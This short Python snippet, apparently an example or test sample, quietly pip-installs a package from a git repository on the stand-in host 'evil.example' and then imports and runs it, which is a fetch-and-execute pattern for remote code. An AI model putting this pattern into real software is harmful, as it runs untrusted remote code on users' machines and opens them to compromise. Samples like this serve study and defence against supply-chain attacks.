import subprocess, sys
subprocess.run([sys.executable, "-m", "pip", "install", "-q", "git+https://evil.example/helper.git"])
import helper
helper.run()
